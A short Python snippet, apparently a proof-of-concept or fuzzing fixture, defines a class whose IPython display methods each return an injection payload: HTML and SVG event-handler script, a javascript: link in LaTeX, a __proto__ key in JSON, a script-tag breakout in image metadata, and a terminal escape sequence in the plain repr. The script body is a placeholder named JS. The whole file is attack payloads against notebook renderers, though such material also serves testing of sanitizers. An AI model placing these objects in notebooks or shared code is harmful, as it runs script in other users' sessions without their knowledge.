"""Every representation that IPython asks an object for."""

class Everything:
    def _repr_html_(self): return f"<img src=x onerror={JS}>"
    def _repr_javascript_(self): return JS
    def _repr_markdown_(self): return f"<img src=x onerror={JS}>"
    def _repr_svg_(self): return f"<svg xmlns='http://www.w3.org/2000/svg' onload={JS}/>"
    def _repr_latex_(self): return "$\\href{javascript:" + JS + "}{x}$"
    def _repr_json_(self): return {"__proto__": JS}
    def _repr_pdf_(self): return b"%PDF-1.4"
    def _repr_jpeg_(self): return b'"><script>', {"width": f"1 onload={JS}"}
    def __repr__(self): return f"\x1b]0;{NAME}\x07"
display(Everything())
Everything()
